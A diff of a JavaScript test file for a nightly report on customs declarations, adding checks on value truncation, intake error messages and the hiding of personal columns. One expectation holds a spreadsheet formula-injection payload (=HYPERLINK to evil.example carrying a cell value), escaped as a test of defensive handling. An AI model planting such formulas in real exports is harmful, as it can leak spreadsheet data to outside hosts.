@@ -113,7 +113,7 @@ describe('the nightly report', () => {
       .map((value) => value.textContent);
     expect(values).toContain(`'=HYPERLINK("http://evil.example/?x="&A1;"Bấm vào… (54)`);
     expect(values.some((value) => value.startsWith('Doanh nghiệp tư nhân sản xuất'))).toBe(true);
-    expect(values.some((value) => value.endsWith('… (5000)'))).toBe(true);
+    expect(values).toContain(`${'Đ'.repeat(60)}…`);
   });
 
   it('names officers by pseudonym, wherever they stand', () => {
@@ -210,9 +210,22 @@ describe('the nightly report', () => {
     expect(full).not.toMatch(/NaN|undefined|Infinity/);
   });
 
+  it('says of a row set aside where it stands, what it holds and what was expected', () => {
+    const example = parse(full)
+      .querySelector('#intake .examples li')
+      ?.textContent.replace(/\s+/g, ' ')
+      .trim();
+    expect(example).toBe(
+      'declarations/2026/tờ khai tháng 11 – Chi cục Hải quan khu vực II.csv:2 “2206-11-03T08:00:00” cần:expected: a timestamp from 1990 to 2100',
+    );
+  });
+
   it('hides values of personal and of unknown columns', () => {
     expect(mayShow('declarations', 'gross_kg')).toBe(true);
+    expect(mayShow('declaration_lines', 'declaration_id, line_no')).toBe(true);
     expect(mayShow('declarations', 'document_officer_id')).toBe(false);
+    expect(mayShow('duty_roster', 'officer_id, on_date')).toBe(false);
+    expect(mayShow('declarations', '')).toBe(false);
     expect(mayShow('declarations', 'no_such_column')).toBe(false);
     expect(mayShow('no_such_feed', 'gross_kg')).toBe(false);
   });
